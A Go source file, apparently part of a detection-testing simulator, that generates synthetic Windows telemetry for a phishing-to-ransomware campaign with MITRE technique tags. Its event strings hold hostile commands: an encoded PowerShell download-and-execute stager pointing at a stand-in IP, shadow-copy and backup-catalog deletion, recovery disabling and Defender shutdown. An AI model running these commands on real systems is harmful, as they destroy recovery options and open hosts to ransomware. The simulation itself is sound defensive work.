package sim

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"time"
)

// RansomwareCampaign: a phishing document on a workstation starts an encoded
// PowerShell stager; the operator discovers the domain, turns off real-time
// protection, deletes the volume shadow copies and the backup catalog, disables
// recovery, and then renames the user's documents en masse to an encrypted
// extension and drops a ransom note. All of it is Windows telemetry (Sysmon and
// Security 4688), as an EDR-less shop running Sysmon would see it.
type RansomwareCampaign struct {
	id string
	schedule
	user *User
	ws   *Host
	ext  string
}

// NewRansomwareCampaign returns the campaign with the given id.
func NewRansomwareCampaign(id string) *RansomwareCampaign { return &RansomwareCampaign{id: id} }

// ID implements Campaign.
func (c *RansomwareCampaign) ID() string { return c.id }

var ransomExts = []string{".lockbit", ".crypt", ".enc7", ".rhysida", ".akira"}

var docNames = []string{"budget", "forecast", "contract", "minutes", "invoice", "report", "roadmap", "payroll", "offer", "presentation", "notes", "plan"}
var docExts = []string{".docx", ".xlsx", ".pdf", ".pptx", ".csv"}

// Plan implements Campaign.
func (c *RansomwareCampaign) Plan(rng *rand.Rand, org *Org, from, to time.Time) {
	c.user = &org.Users[rng.IntN(len(org.Users))]
	c.ws = &org.Hosts[c.user.Hosts[0]]
	c.ext = ransomExts[rng.IntN(len(ransomExts))]
	// The document is opened in the user's working day.
	day := within(rng, from, to, 0.5).Truncate(24 * time.Hour)
	t := day.Add(time.Duration((c.user.StartHour+1+3*rng.Float64())*float64(time.Hour)) - time.Duration(c.user.Office.Offset)*time.Hour).Truncate(time.Second)
	u, ws := c.user, c.ws
	dom := `CORP\` + u.Name
	pid := 7000 + rng.IntN(20000)
	word := `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cmd := `C:\Windows\System32\cmd.exe`
	proc := func(tech, image, cmdline, parent string, integrity string) {
		p := pid
		pid += 4 + rng.IntN(400)
		c.at(t, tech, func(em *Emitter, t time.Time, tech string) {
			em.Win(t, tech, true, 1, ws.Name, []KV{{"ProcessId", strconv.Itoa(p)}, {"Image", image}, {"CommandLine", cmdline}, {"User", dom}, {"ParentImage", parent}, {"IntegrityLevel", integrity}})
			em.Win(t, tech, false, 4688, ws.Name, []KV{{"SubjectUserSid", u.SID}, {"SubjectUserName", u.Name}, {"SubjectDomainName", NetBIOSDomain}, {"NewProcessId", "0x" + strconv.FormatInt(int64(p), 16)}, {"NewProcessName", image}, {"CommandLine", cmdline}, {"ParentProcessName", parent}, {"TokenElevationType", "%%1937"}})
		})
	}
	// 1. The macro document starts an encoded PowerShell stager.
	c.at(t, "T1566.001", func(em *Emitter, t time.Time, tech string) {
		em.Win(t, tech, true, 11, ws.Name, []KV{{"Image", `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`}, {"TargetFilename", `C:\Users\` + u.Name + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q3K7\Invoice_` + strconv.Itoa(1000+rng.IntN(9000)) + `.docm`}, {"User", dom}})
	})
	t = t.Add(time.Duration(20+rng.IntN(100)) * time.Second)
	proc("T1059.001", ps, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcAMgAvAGEAJwApAA==`, word, "Medium")
	// 2. Discovery, some minutes later.
	t = t.Add(time.Duration(5+rng.IntN(20)) * time.Minute)
	for _, d := range [][2]string{
		{"T1087.002", `net group "domain admins" /domain`},
		{"T1482", `nltest /domain_trusts /all_trusts`},
		{"T1018", `net view /all /domain`},
	} {
		proc(d[0], cmd, `cmd.exe /c `+d[1], ps, "Medium")
		t = t.Add(time.Duration(10+rng.IntN(50)) * time.Second)
	}
	// 3. Defense evasion and inhibiting recovery, elevated (the stager used a UAC bypass).
	t = t.Add(time.Duration(20+rng.IntN(60)) * time.Minute)
	for _, d := range [][3]string{
		{"T1562.001", ps, `powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true`},
		{"T1490", `C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`},
		{"T1490", `C:\Windows\System32\wbem\WMIC.exe`, `wmic.exe shadowcopy delete /nointeractive`},
		{"T1490", `C:\Windows\System32\bcdedit.exe`, `bcdedit.exe /set {default} recoveryenabled no`},
		{"T1490", `C:\Windows\System32\bcdedit.exe`, `bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures`},
		{"T1490", `C:\Windows\System32\wbadmin.exe`, `wbadmin.exe delete catalog -quiet`},
	} {
		proc(d[0], d[1], d[2], cmd, "High")
		t = t.Add(time.Duration(3+rng.IntN(15)) * time.Second)
	}
	// 4. Impact: documents renamed to the encrypted extension (FileCreate of the new
	// name, FileDelete of the old), a few per second, then the ransom note.
	t = t.Add(time.Duration(1+rng.IntN(5)) * time.Minute)
	enc := `C:\Users\` + u.Name + `\AppData\Local\Temp\svc` + strconv.Itoa(rng.IntN(100)) + `.exe`
	proc("T1486", enc, enc+` -path C:\Users -threads 4`, ps, "High")
	n := 250 + rng.IntN(250)
	dirs := []string{`Documents`, `Desktop`, `Documents\Projects`, `Downloads`, `Documents\Finance`}
	for i := range n {
		name := fmt.Sprintf(`C:\Users\%s\%s\%s_%d_%03d%s`, u.Name, dirs[rng.IntN(len(dirs))], docNames[rng.IntN(len(docNames))], 2020+rng.IntN(6), i, docExts[rng.IntN(len(docExts))])
		c.at(t, "T1486", func(em *Emitter, t time.Time, tech string) {
			em.Win(t, tech, true, 11, ws.Name, []KV{{"Image", enc}, {"TargetFilename", name + c.ext}, {"User", dom}})
			em.Win(t, tech, true, 23, ws.Name, []KV{{"Image", enc}, {"TargetFilename", name}, {"User", dom}, {"IsExecutable", "false"}, {"Archived", "false"}})
		})
		t = t.Add(time.Duration(80+rng.IntN(400)) * time.Millisecond)
	}
	c.at(t, "T1486", func(em *Emitter, t time.Time, tech string) {
		em.Win(t, tech, true, 11, ws.Name, []KV{{"Image", enc}, {"TargetFilename", `C:\Users\` + u.Name + `\Desktop\README_RESTORE_FILES.txt`}, {"User", dom}})
	})
}

// Emit implements Campaign.
func (c *RansomwareCampaign) Emit(em *Emitter, from, to time.Time) { c.emit(em, from, to) }

// Truth implements Campaign.
func (c *RansomwareCampaign) Truth() TruthCampaign {
	a, b, techs := c.span()
	return TruthCampaign{ID: c.id, Name: "phishing to ransomware precursors", Start: a, End: b, Techniques: techs,
		Entities: []TruthEntity{c.user.Entity(), c.ws.Entity()}}
}
